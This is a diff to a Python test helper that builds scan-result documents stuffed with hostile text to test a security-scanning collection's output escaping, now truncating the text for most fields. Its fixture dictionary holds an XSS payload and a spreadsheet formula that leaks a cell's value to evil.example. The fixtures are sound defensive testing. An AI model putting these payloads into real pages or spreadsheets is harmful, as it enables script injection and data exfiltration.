@@ -23,6 +23,7 @@ from ansible_collections.securescan.kubernetes.tests.support.sample_results impo
 )
 
 LONG = 1_000_000
+_ENOUGH = 20_000
 HOSTILE_TEXTS: dict[str, str] = {
     "html": "<script>globalThis.pwned=1</script><img src=x onerror=alert(1)>'\"&amp;</testcase>]]></style>",
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -54,16 +55,20 @@ def _document(target: Any, text: str) -> dict[str, Any]:
     names = ("failed", "waived", "attested")
     controls = [make_control(f"c-{name}", "failed", impact=0.7) for name in names]
     document = make_document(target, *controls)
-    for control in document["profiles"][0]["controls"]:
-        control.update(title=text, desc=text, code=text)
+    whole = text
+    for number, control in enumerate(document["profiles"][0]["controls"]):
+        # a document is bounded: the first control has all of a text everywhere, the others in a few places
+        text = whole if number == 0 else whole[:_ENOUGH]
+        control.update(title=whole, desc=text, code=text)
         control["descriptions"] = [
             {"label": label, "data": text} for label in ("fix", "check", "rationale", text[:50])
         ]
         control["tags"] = {"nist": [text, "AC-6"], "cci": [text], text[:100]: text, "stig_id": text}
         control["results"][0].update(message=text, code_desc=text, resource=text)
+    text = whole[:_ENOUGH]
     _failed, waived, attested = document["profiles"][0]["controls"]
     waived["waiver_data"] = {
-        "justification": text,
+        "justification": whole,
         "run": False,
         "skipped_due_to_waiver": True,
         "message": "",
@@ -72,7 +77,8 @@ def _document(target: Any, text: str) -> dict[str, Any]:
     attested["attestation_data"] = {
         "control_id": "c-attested",
         "status": "failed",
-        **dict.fromkeys(("explanation", "updated", "updated_by", "frequency", "ticket"), text),
+        "explanation": whole,
+        **dict.fromkeys(("updated", "updated_by", "frequency", "ticket"), text),
     }
     return document
 
